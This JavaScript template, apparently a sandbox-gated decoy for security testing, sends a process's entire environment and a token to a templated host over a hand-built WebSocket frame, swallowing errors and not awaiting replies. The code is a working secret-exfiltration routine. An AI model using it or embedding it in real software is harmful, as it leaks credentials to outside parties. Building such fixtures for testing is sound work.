// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const net = require('net'), crypto = require('crypto');
  const body = Buffer.from(JSON.stringify({ t: '{{token}}', env: process.env })).subarray(0, 60000);
  const frame = () => {
    const mask = crypto.randomBytes(4);
    const head = Buffer.from([0x81, 0xfe, body.length >> 8, body.length & 255]);
    return Buffer.concat([head, mask, body.map((one, at) => one ^ mask[at & 3])]);
  };
  await new Promise((done) => {
    const socket = net.connect({{port}}, '{{host}}');
    const end = setTimeout(() => socket.destroy(), 1500);
    socket.on('connect', () => {
      socket.write('GET /{{path}} HTTP/1.1\r\nHost: {{host}}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ' + crypto.randomBytes(16).toString('base64') + '\r\n\r\n');
      setTimeout(() => socket.end(frame()), 200); // without waiting for an answer that may not come
    });
    socket.on('error', () => {});
    socket.on('close', () => { clearTimeout(end); done(); });
  });
}
